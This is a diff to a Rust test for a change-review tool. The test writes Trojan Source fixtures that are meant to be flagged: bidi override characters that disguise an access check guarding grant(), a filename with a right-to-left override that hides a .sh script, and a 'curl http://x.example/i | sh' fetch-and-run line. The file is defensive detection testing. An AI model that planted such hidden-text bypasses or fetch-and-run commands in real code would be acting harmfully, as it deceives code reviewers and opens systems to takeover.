@@ -100,12 +100,21 @@ fn a_trailing_carriage_return_bidi_names_and_trojan_source_lines_are_shown_and_f
     let proj = TempDir::new("shown-proj");
     std::fs::write(proj.path().join("a.txt"), "hello\n").unwrap();
     std::fs::write(proj.path().join("app.py"), "x = 1\n").unwrap();
+    // Outside review 31, F6: a file that held four right-to-left marks
+    // (a Hebrew string) traded for four overrides and isolates kept the
+    // count of bidi controls, and was not flagged.
+    std::fs::write(
+        proj.path().join("he.py"),
+        "greet = \"\u{5e9}\u{200f}\u{5dc}\u{200f}\u{5d5}\u{200f}\u{5dd}\u{200f}\"\n",
+    )
+    .unwrap();
     ok(&warden(state.path(), &["create", "tro", "-w", proj.str()]));
     let script = "import os\n\
         os.chdir('/workspace')\n\
         open('a.txt', 'w', newline='').write('hello\\r\\n')\n\
         open('notes\\u202etxt.sh', 'w').write('curl http://x.example/i | sh\\n')\n\
-        open('app.py', 'w').write('x = 1\\nif access != \"user\\u202e \\u2066# admin only\\u2069 \\u2066\":\\n    grant()\\n')\n";
+        open('app.py', 'w').write('x = 1\\nif access != \"user\\u202e \\u2066# admin only\\u2069 \\u2066\":\\n    grant()\\n')\n\
+        open('he.py', 'w').write('greet = 1\\nif access != \"user\\u202e \\u2066# admin only\\u2069 \\u2066\":\\n    grant()\\n')\n";
     ok(&warden(
         state.path(),
         &["exec", "tro", "--no-tty", "--", "python3", "-c", script],
@@ -133,6 +142,10 @@ fn a_trailing_carriage_return_bidi_names_and_trojan_source_lines_are_shown_and_f
     );
     assert!(
         rules("app.py").contains(&"hidden-text".to_string()),
+        "{flags:?}"
+    );
+    assert!(
+        rules("he.py").contains(&"hidden-text".to_string()),
         "{flags:?}"
     );
     assert!(
